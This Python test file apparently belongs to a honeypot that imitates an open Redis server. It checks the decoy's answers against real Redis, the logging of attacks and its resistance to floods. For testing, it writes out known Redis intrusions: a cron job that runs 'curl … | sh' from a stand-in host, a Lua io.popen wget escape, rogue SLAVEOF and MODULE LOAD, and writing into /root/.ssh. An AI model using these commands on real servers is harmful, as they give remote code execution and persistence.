# SPDX-License-Identifier: MIT
"""The Redis decoy beside the server that it claims to be, attacked as open servers are, and flooded."""

from __future__ import annotations

import asyncio
import contextlib
import fnmatch
import gc
import hashlib
import os
import re
import shutil
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from time import thread_time

import pytest
from tests.at_scale import at_scale
from tests.decnet_decoys.decky_host import DEADLINE, DeckyHost, fleet_settings
from tests.decnet_decoys.services.dialogues.redis import request
from tests.ports import free_port

from decnet_core.events.catalogue import CommandRun, FileCaptured, LoginAttempt, ServiceRequest
from decnet_decoys.personas.catalog import persona
from decnet_decoys.redis.dispatch import COMMANDS
from decnet_decoys.redis.dispatch import answer as reply_to
from decnet_decoys.redis.instance import Client, Instance
from decnet_decoys.redis.persistence.dump_file import MOST_BYTES
from decnet_decoys.redis.profile import RedisProfile
from decnet_decoys.redis.protocol import Error, Pairs, Simple

SERVER, CLIENT = shutil.which("redis-server"), shutil.which("redis-cli")


@pytest.fixture
async def host(tmp_path: Path) -> AsyncIterator[DeckyHost]:
    made = DeckyHost(tmp_path, fleet_settings("mail-server", offers=("redis",)))
    await made.open()
    yield made
    await made.close()


async def said(port: int, *requests: bytes, address: str = "127.0.0.1") -> list[bytes]:
    """Return the answer to each request, on one connection; the server must answer each at once."""
    reader, writer = await asyncio.open_connection(address, port)
    found = []
    async with asyncio.timeout(DEADLINE):
        for one in requests:
            writer.write(one)
            found.append(await answer(reader))
    writer.close()
    return found


async def answer(reader: asyncio.StreamReader) -> bytes:
    line = await reader.readline()
    if line[:1] == b"$" and line != b"$-1\r\n":
        return line + await reader.readexactly(int(line[1:]) + 2)
    count = {b"*": 1, b"%": 2}.get(line[:1], 0) * int(line[1:] or 0) if line[:1] in b"*%" and line else 0
    return line + b"".join([await answer(reader) for _ in range(max(0, count))])


def words(line: str) -> bytes:
    return request(*(word.encode() for word in line.split()))


async def asked(host: DeckyHost, *lines: str | bytes) -> list[bytes]:
    requests = [words(one) if isinstance(one, str) else one for one in lines]
    return await said(host.decky.services["redis"], *requests, address=host.decky.address)


FIRST_EXCHANGES = """
PING|PING hello|ECHO|ECHO x|FOO a b|AUTH x|AUTH u x|HELLO 9|SELECT 1|SELECT 99|SELECT x|SELECT 0|CONFIG GET dbfilename
CONFIG SET foo 1|CONFIG GET|CONFIG|CONFIG FOO|CLIENT SETNAME x|CLIENT GETNAME|CLIENT SETINFO LIB-NAME x|CLIENT
COMMAND COUNT|ROLE|MODULE LIST|EVALSHA abc 0|SCRIPT EXISTS abc|DBSIZE|KEYS *|GET|GET a|SET a b|GET a|SET a c NX
SET a c XX|SET a c GET|SET a b XX PX|SET a 1 EX 0|LPUSH a x|TYPE a|TYPE none|TTL a|TTL none|SCAN 0|SCAN x|INCR a
SET n 5|INCR n|INCRBY n 10|DECR n|APPEND n 1|STRLEN n|GETSET n 1|MSET x 1 y 2|MGET x y none|EXISTS x y none|DEL x y none
EXPIRE none 3|EXPIRE n x|PERSIST n|RENAME none y|RENAME n m|LPUSH l 1 2 3|RPUSH l 4|LRANGE l 0 -1|LRANGE l 1 1|LLEN l
LPOP l|RPOP l|GET l|HSET h a 1 b 2|HSET h a|HGET h a|HGETALL h|HDEL h a none|MULTI|GET a|INCR q|FOO|EXEC
MULTI|GET a|INCR q|EXEC|EXEC|DISCARD|MULTI|MULTI
DISCARD|LATENCY LATEST|ACL WHOAMI|ACL LIST|DEBUG SLEEP 0|SYSTEM.EXEC id|FLUSHDB|FLUSHALL|SAVE
BGSAVE|WAIT 0 0|SUBSCRIBE
"""


COPYING = """
SET a 1|EXPIREAT a 99999999999|EXPIREAT a x|EXPIREAT a|EXPIREAT none 1|PEXPIREAT a 99999999999999
PEXPIRE a 100000000 NX|PEXPIRE a 100000000 XX|PEXPIRE a 200000000 GT|PEXPIRE a 100000000 FOO|EXPIRE a 100 NX
EXPIRE a 100 NX XX|EXPIRE a 100 GT LT|EXPIRE a 99999999999999999|EXPIRETIME none|PEXPIRETIME none|PERSIST a
EXPIRETIME a|PEXPIRETIME a|EXPIRE a -1|EXISTS a|SET b 1|EXPIREAT b 1|GET b

SET a hello|GETRANGE a 0 -1|GETRANGE a 1 3|GETRANGE a -3 -1|GETRANGE a 5 1|GETRANGE a x 1|GETRANGE none 0 1
GETRANGE a 0|SUBSTR a 0 1|SETRANGE a 1 XX|GET a|SETRANGE a 10 z|GET a|SETRANGE a -1 z|SETRANGE a x z
SETRANGE a 536870912 z|SETRANGE none 3 x|GET none|SETRANGE empty 0 |STRLEN none|SETBIT bits 7 1|SETBIT bits 7 0
SETBIT bits 100 1|GETBIT bits 100|GETBIT bits 5|GETBIT none 1|SETBIT bits 4294967296 1|SETBIT bits -1 1
SETBIT bits 1 2|BITCOUNT bits|BITCOUNT none|BITCOUNT bits 0 -1|LPUSH l a|GETRANGE l 0 1|SETRANGE l 0 x|GETBIT l 1

HSET h a 1 b 2|HMSET h c 3|HMSET h c|HKEYS h|HVALS h|HLEN h|HEXISTS h a|HEXISTS h z|HMGET h a z b|HMGET h|HSETNX h a 9
HSETNX h n 9|HINCRBY h a 5|HINCRBY h new 5|HINCRBY h n x|HSTRLEN h a|HSTRLEN h zz|HSCAN h 0|HSCAN none 0|HKEYS none
HLEN none|SET s x|HLEN s|HGET s a

RPUSH l a b c d e|LINDEX l 0|LINDEX l -1|LINDEX l 99|LINDEX l x|LSET l 0 z|LSET l 99 z|LSET none 0 z|LREM l 1 b
LREM l 0 none|LINSERT l BEFORE c n|LINSERT l AFTER zz n|LINSERT l FOO c n|LTRIM l 0 2|LRANGE l 0 -1|LPOP l 2|RPOP l 0
RPOP none|LPOP none 2|LPOP l -1|LPOP l x|LPUSHX none a|RPUSHX none a|LPUSHX l a|RPOPLPUSH l m|LRANGE m 0 -1
LMOVE m l LEFT RIGHT|LLEN l|SET s x|LLEN s|LINDEX s 0

SADD s a b c|SMISMEMBER s a z|SSCAN none 0|SRANDMEMBER none|SRANDMEMBER none 3|SCARD s|SADD t b c d|SDIFF s t
SMOVE s t a|SDIFFSTORE r s t|SINTERSTORE r s t|SUNIONSTORE r s t|SCARD r|TYPE r

ZSCORE z none|ZCARD none|ZRANGE none 0 -1|SET s 1

SET a 1|GETDEL a|GETDEL a|SET a 1|GETEX a|GETEX a EX 100|GETEX a PERSIST|GETEX a FOO|GETEX none|PSETEX a 100000 v
PSETEX a 0 v|SETEX a 0 v|SETEX a x v|MSETNX a 1 q 2|MSETNX q 1 r 2|MSETNX q|DECRBY r 3|DECRBY r x|RENAMENX r q
RENAMENX r r2|RENAMENX none x|TOUCH q none|COPY q qq|COPY q qq|COPY q qq REPLACE|COPY none x|COPY q q|MOVE q 1
MOVE q 1|MOVE none 1|MOVE qq 0|MOVE qq 99|SELECT 1|GET q|FLUSHDB|SELECT 0|SWAPDB 0 1|SWAPDB 0 1|SWAPDB 0 99|DUMP none
RESTORE k 0 x|RESTORE k x x|SORT none|SORT_RO none|OBJECT FREQ none|OBJECT ENCODING qq|MIGRATE 127.0.0.1 1 k 0 10
UNLINK qq|SET a v KEEPTTL|SET a v EX 10 KEEPTTL|SET a v NX GET|SET a v PXAT 99999999999999|SET a v EXAT 99999999999
SET a v EX 9999999999999999|SET|APPEND|GETSET a|INCRBYFLOAT a x

CLIENT ID x|CLIENT INFO x|CLIENT NO-EVICT on|CLIENT NO-EVICT foo|CLIENT KILL 127.0.0.1:1|CLIENT KILL ID 99999
CLIENT KILL TYPE foo|CLIENT PAUSE x|CLIENT UNPAUSE|CLIENT REPLY ON|CLIENT GETREDIR|CLIENT TRACKING OFF
CLIENT UNBLOCK 99999|CLIENT SETINFO lib-name x|CLIENT LIST TYPE foo|CLIENT LIST ID 99999|CLIENT|CONFIG GET maxclients
CONFIG GET appendonly|CONFIG GET requirepass|CONFIG GET databases|CONFIG SET requirepass|CONFIG SET maxmemory 100mb
CONFIG SET appendonly yes|CONFIG SET appendonly no|CONFIG SET save |CONFIG SET rdbcompression no
CONFIG SET rdbcompression yes|CONFIG SET protected-mode no|CONFIG SET slave-read-only no
CONFIG SET replica-read-only yes|CONFIG SET stop-writes-on-bgsave-error no|CONFIG SET loglevel debug
CONFIG SET timeout 0|CONFIG SET dir|CONFIG RESETSTAT x

ACL GENPASS x|ACL SETUSER|ACL DELUSER none|ACL DELUSER default|ACL LOG|ACL LOG RESET|ACL LOAD|ACL SAVE|ACL WHOAMI x
ACL USERS|ACL FOO|ACL|SLOWLOG RESET|SLOWLOG GET 10|SLOWLOG GET x|SLOWLOG FOO|SLOWLOG|LATENCY HISTORY x|LATENCY RESET
LATENCY FOO|LATENCY|MEMORY DOCTOR|MEMORY PURGE|MEMORY FOO|MEMORY USAGE|MEMORY|MODULE LIST x|MODULE LOAD|MODULE
COMMAND INFO none|COMMAND GETKEYS GET a|COMMAND GETKEYS FOO|COMMAND COUNT x|COMMAND DOCS none|CLUSTER MEET 1 2|CLUSTER
DEBUG|DEBUG OBJECT a|DEBUG SET-ACTIVE-EXPIRE 0|FAILOVER|SHUTDOWN ABORT|SHUTDOWN FOO|MONITOR x|PUBSUB CHANNELS
PUBSUB NUMSUB|PUBSUB NUMSUB a|PUBSUB NUMPAT|PUBSUB FOO|PUBSUB|PUBLISH a|SPUBLISH a b|UNWATCH|WATCH a|WATCH|MULTI
WATCH a|DISCARD|RESET|RESET x|ECHO|SELECT|AUTH|QUIT x

FUNCTION LIST|FUNCTION LOAD x|FUNCTION FLUSH|FUNCTION DELETE x|FUNCTION FOO|FCALL x 0|SCRIPT FLUSH ASYNC|SCRIPT FOO
SCRIPT|EVAL|EVAL return 0|PFCOUNT none|XLEN none|XRANGE none - +|KEYS|KEYS a b|SCAN|DBSIZE x|RANDOMKEY x|TYPE|TTL|PTTL
PERSIST|RENAME a|DEL|EXISTS|FLUSHALL|FLUSHDB SYNC|get|gEt a|SENTINEL MASTERS
"""
"""What tools that copy or change a server ask it, type by type; each group begins with nothing stored."""


@contextlib.asynccontextmanager
async def real_server(directory: Path) -> AsyncIterator[int]:
    """Run the real server; yields its port."""
    port = free_port()
    assert SERVER is not None
    real = await asyncio.create_subprocess_exec(
        SERVER, "--port", str(port), "--bind", "127.0.0.1", "--save", "", "--dir", str(directory),
        "--loglevel", "warning",
    )  # fmt: skip
    try:
        async with asyncio.timeout(DEADLINE):
            while True:
                try:
                    await said(port, words("PING"))
                    break
                except OSError:
                    await asyncio.sleep(0.02)
        yield port
    finally:
        real.terminate()
        await real.wait()


@pytest.mark.skipif(SERVER is None, reason="compares with the real server: install redis-server")
@pytest.mark.parametrize(
    "group", [FIRST_EXCHANGES, *COPYING.split("\n\n")], ids=lambda group: group.split("|")[0].strip()
)
async def test_answers_are_those_of_the_real_server(host: DeckyHost, tmp_path: Path, group: str) -> None:
    lines = [line for line in re.split(r"[|\n]", group) if line]
    async with real_server(tmp_path) as port:
        theirs = await said(port, *map(words, lines))
    await asked(host, "FLUSHALL")
    ours = await asked(host, *lines)
    different = [(line, one, other) for line, one, other in zip(lines, theirs, ours, strict=True) if one != other]
    assert not different, different


@pytest.mark.skipif(CLIENT is None, reason="uses the real client: install redis-tools")
async def test_the_real_client_works(host: DeckyHost) -> None:
    assert CLIENT is not None
    process = await asyncio.create_subprocess_exec(
        CLIENT, "-h", host.decky.address, "-p", str(host.decky.services["redis"]),
        stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE, env={**os.environ, "LC_ALL": "C"},
    )  # fmt: skip
    out, _ = await asyncio.wait_for(
        process.communicate(b"INFO server\nKEYS *bayes*\nSET x 'a b'\nGET x\nHELLO 3\n"), 15
    )
    assert b"redis_version:7.0.15" in out
    assert b"os:Linux 6.1.0-28-amd64 x86_64" in out
    assert b"rs_bayes_version" in out
    assert b"OK\na b\n" in out


async def test_a_written_cron_table_is_kept_with_the_path_that_it_would_have_had(host: DeckyHost) -> None:
    job = b"\n\n*/1 * * * * curl -fsSL http://192.0.2.66/x.sh | sh\n\n"
    answers = await asked(
        host,
        "CONFIG SET dir /var/spool/cron/crontabs",
        "CONFIG SET dbfilename root",
        request(b"SET", b"x1", job),
        "SAVE",
        "CONFIG SET dir /nowhere",
    )
    assert answers[:4] == [b"+OK\r\n"] * 4
    assert b"No such file or directory" in answers[4]
    (file,) = await host.until(FileCaptured)
    assert file.name == "/var/spool/cron/crontabs/root"
    content = (host.state.root / "artifacts" / file.sha256[:2] / file.sha256).read_bytes()
    assert job in content
    assert hashlib.sha256(content).hexdigest() == file.sha256
    actions = [one.action for one in await host.until(ServiceRequest, 5)]
    assert actions == ["CONFIG", "CONFIG", "SET", "SAVE", "CONFIG"]


async def test_replication_modules_and_scripts_are_recorded_to_their_end(host: DeckyHost) -> None:
    code = (
        b'local l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = l(); '
        b'local f = io.popen("wget http://192.0.2.66/a -O /tmp/a", "r"); return f:read("*a")'
    )
    answers = await asked(
        host,
        "SLAVEOF 192.0.2.66 21000",
        "ROLE",
        "MODULE LOAD ./exp.so",
        "SYSTEM.EXEC id",
        request(b"EVAL", code, b"0"),
        "SLAVEOF NO ONE",
    )
    assert answers[0] == answers[5] == b"+OK\r\n"
    assert b"192.0.2.66" in answers[1]
    assert b"Error loading the extension" in answers[2]
    (run,) = await host.until(CommandRun)
    assert (run.service, run.command) == ("redis", "wget http://192.0.2.66/a -O /tmp/a")
    recorded = {one.action: one.detail for one in await host.until(ServiceRequest, 6)}
    assert recorded["MODULE"] == {"ARGS": "LOAD ./exp.so"}
    assert recorded["SYSTEM.EXEC"] == {"ARGS": "id", "known": "no"}


def scripted() -> Client:
    return Client(Instance(RedisProfile(), persona("mail-server"), 6379, "1"), ("192.0.2.1", 1), ("192.0.2.2", 6379))


@pytest.mark.parametrize(
    ("code", "reply"),
    [(b" return 7 ; ", 7), (b"return 'x'", b"x"), (b"return {1, 2}", [1, 2]), (b"return function() end", None)],
)
def test_a_script_that_returns_a_constant_is_answered(code: bytes, reply: object) -> None:
    assert COMMANDS["eval"][0](scripted(), [code, b"0"]) == reply


def test_no_script_takes_long() -> None:
    best = 1.0
    for _ in range(3):
        began = thread_time()
        COMMANDS["eval"][0](scripted(), [b"return 1" + b" " * 4000 + b"x", b"0"])
        best = min(best, thread_time() - began)
    assert best < 0.02


async def test_patterns_that_clients_ask_for_are_not_kept() -> None:
    client = scripted()
    kept = vars(fnmatch)["_compile_pattern"].cache_info().currsize
    for number in range(20):
        await reply_to(client, [b"config", b"get", *(b"d*%d-%d" % (number, one) for one in range(16))])
    assert await reply_to(client, [b"config", b"get", b"d?r"]) == Pairs({"dir": client.instance.settings["dir"]})
    assert vars(fnmatch)["_compile_pattern"].cache_info().currsize == kept


async def test_what_is_stored_is_there_for_the_next_and_bounded(host: DeckyHost) -> None:
    await asked(host, "SET left behind")
    assert await asked(host, "GET left") == [b"$6\r\nbehind\r\n"]
    big = request(b"SET", b"big", b"x" * 200_000)
    assert [reply[:4] for reply in await asked(host, big, request(b"SET", b"more", b"x" * 100_000))] == [
        b"+OK\r",
        b"-OOM",
    ]
    assert (await asked(host, request(b"MGET", *[b"big"] * 1000)))[0].startswith(b"-OOM")
    field = request(b"HSET", b"hash", b"field", b"x" * 20_000)
    assert (await asked(host, field, request(b"HMGET", b"hash", *[b"field"] * 2000)))[1].startswith(b"-OOM")


async def test_a_password_is_asked_for() -> None:
    instance = Instance(RedisProfile(password="s3cret", protected=True), persona("mail-server"), 6379, "1")
    client = Client(instance, ("192.0.2.1", 1), ("10.0.0.1", 6379))
    refused = Error("NOAUTH Authentication required.")
    assert await reply_to(client, [b"GET", b"a"]) == refused
    assert await reply_to(client, [b"EXEC"]) == refused
    assert await reply_to(client, [b"AUTH", b"guess"]) != Simple("OK")
    assert await reply_to(client, [b"AUTH", b"s3cret"]) == Simple("OK")
    assert await reply_to(client, [b"GET", b"a"]) is None
    for words in ([b"CONFIG", b"SET", b"dir", b"/root/.ssh"], [b"MODULE", b"LOAD", b"x.so"]):
        assert isinstance(await reply_to(client, words), Error)


async def test_logins_are_recorded(host: DeckyHost) -> None:
    await asked(host, "AUTH foobared", "AUTH admin admin", "HELLO 3 AUTH default x")
    found = [(one.username, one.password, one.success) for one in await host.until(LoginAttempt, 3)]
    assert found == [("default", "foobared", False), ("admin", "admin", False), ("default", "x", True)]


async def test_a_browser_is_sent_away(host: DeckyHost) -> None:
    reader, writer = await asyncio.open_connection(host.decky.address, host.decky.services["redis"])
    writer.write(b"POST / HTTP/1.1\r\nHost: x\r\n\r\n")
    async with asyncio.timeout(DEADLINE):
        assert await reader.read() == b""
    writer.close()
    first, second = await host.until(ServiceRequest, 2)
    assert (first.action, first.detail["protocol"], second.action) == ("other protocol", "http", "POST")


async def test_a_transaction_is_bounded_though_its_words_are_empty() -> None:
    client = Client(Instance(RedisProfile(), persona("mail-server"), 6379, "1"), ("192.0.2.1", 1), ("192.0.2.2", 6379))
    assert await reply_to(client, [b"MULTI"]) == Simple("OK")
    replies = [await reply_to(client, [b"PING", *[b""] * 2000]) for _ in range(10)]
    assert replies.count(Simple("QUEUED")) == 4
    assert client.queued is not None
    assert sum(map(len, client.queued)) < 10_000


@pytest.mark.parametrize(
    "words",
    [
        [b"HMGET", b"h", *[b"f"] * 2000],
        [b"SETRANGE", b"r", b"500000", b"x"],
        [b"SETBIT", b"r", b"4294967295", b"1"],
    ],
)
async def test_a_few_words_do_not_ask_for_much(words: list[bytes]) -> None:
    client = scripted()
    await reply_to(client, [b"HSET", b"h", b"f", b"x" * 100_000])
    reply = await reply_to(client, words)
    assert isinstance(reply, Error)
    assert reply.text.startswith("OOM")


MEMBERS = [b"%x" % at for at in range(1800)]
MORE = [b"%x" % at for at in range(1800, 3600)]
FLOODS = {
    "pipelined": request(b"KEYS", b"*a*b*") * 1000,
    "stars": request(b"KEYS", b"*" * 5000) * 50,
    "small arguments": request(*[b""] * 60_000),
    "a transaction": request(b"MULTI") + request(b"GET", b"big") * 250 + request(b"EXEC"),
    "options": request(b"SET", b"a", b"b", *[b"GET"] * 17_000),
    "fields": request(b"HSET", b"h", *[b"%d" % at for at in range(300)]) + request(b"HDEL", b"h", *[b"x"] * 17_000),
    "popen": request(b"EVAL", b"popen(" * 20_000, b"0") * 3,
    "quotes": b'"' + b"\\x4" * 20_000 + b"\r\n",
    "sets": request(b"SELECT", b"1")
    + request(b"SADD", b"one", *MEMBERS)
    + request(b"SADD", b"other", *[b"x" + member for member in MEMBERS])
    + b"".join(request(name, b"one", *[b"other", b"one"] * 1000) for name in (b"SINTER", b"SUNION", b"SDIFF"))
    + request(b"SINTER", *[b"other"] * 2000) * 5,
    "config": request(b"CONFIG", b"GET", *[b"*a*b*c*"] * 1000) * 20,
    "a transaction of sets": request(b"SADD", b"one", *MEMBERS)
    + request(b"MULTI")
    + request(b"SMEMBERS", b"one") * 100
    + request(b"EXEC"),
    "a dump": b"".join(
        request(b"SELECT", b"%d" % at) + request(b"SADD", b"one", *MEMBERS) + request(b"SADD", b"one", *MORE)
        for at in range(1, 16)
    )
    + request(b"SAVE"),
    "scripts": request(b"EVAL", b"a=b;" * 1024, b"0") * 20,
}


@pytest.fixture
def frozen_heap() -> Iterator[None]:
    """Keep what the tests have imported out of collections, as a worker does: here one of them takes 130 ms."""
    gc.collect()
    gc.freeze()
    yield
    gc.unfreeze()


@pytest.mark.usefixtures("frozen_heap")
@pytest.mark.parametrize("name", at_scale(FLOODS, always=3))
async def test_no_flood_holds_the_loop(host: DeckyHost, name: str) -> None:
    await asked(host, request(b"SET", b"big", b"x" * 200_000), *[f"SET {'ab' * 60}{at} x" for at in range(200)])
    reader, writer = await asyncio.open_connection(host.decky.address, host.decky.services["redis"], limit=1 << 22)
    writer.write(FLOODS[name])
    writer.write_eof()
    async with asyncio.timeout(4 * DEADLINE):
        with contextlib.suppress(ConnectionResetError):  # closed before all of it was read
            while await reader.read(1 << 20):
                pass
    writer.close()
    assert host.ctx.counters.snapshot()["decoys_stretches"] == 0
    assert host.ctx.counters.snapshot()["decoys_memory_left"] >= host.settings.limits.memory_bytes - MOST_BYTES - 1024
